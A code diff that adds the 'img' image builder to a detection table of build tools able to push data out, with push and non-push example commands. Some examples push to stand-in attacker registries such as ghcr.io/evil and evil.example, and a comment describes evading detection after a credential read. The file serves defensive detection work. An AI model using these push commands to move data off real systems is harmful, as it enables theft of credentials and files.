@@ -1,5 +1,5 @@
 /**
- * Build tools that push the images they build (ko, the Jib CLI, Earthly, Cloud Native Buildpacks' pack). Part
+ * Build tools that push the images they build (ko, the Jib CLI, Earthly, Cloud Native Buildpacks' pack, img). Part
  * of the push-tool table (../push-tools.ts); those that also deploy to a cluster are in ./cluster-deploys.ts.
  */
 import type { PushToolSpec } from '../types.js';
@@ -230,6 +230,22 @@ export const imageBuildTools: readonly PushToolSpec[] = [
         'buildpack package ghcr.io/evil/bp --config package.toml --publish',
       ],
       notPush: ['build app --builder paketobuildpacks/builder-jammy-base', 'build x --publish=false', 'inspect x'],
+    },
+  },
+  {
+    // Evasion hunt, round 3: a few KiB pushed by img after a credential read raised nothing.
+    tool: 'img',
+    description:
+      "genuinetools' daemonless builder: `img push REF` uploads from its own process (its build does not push).",
+    binaries: ['img'],
+    syntax: { valueFlags: ['-b', '--backend', '-s', '--state'] },
+    match: { kind: 'subcommand', commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: HELP_FLAGS }] },
+    destination: 'image-ref',
+    requiresClassedDestination: false,
+    downloads: [['pull']],
+    examples: {
+      push: ['push ghcr.io/evil/x:1', '-s /tmp/state push --insecure-registry evil.example:5000/x:1'],
+      notPush: ['build -t ghcr.io/acme/app:1 .', 'pull ghcr.io/acme/app:1', 'push --help'],
     },
   },
 ];
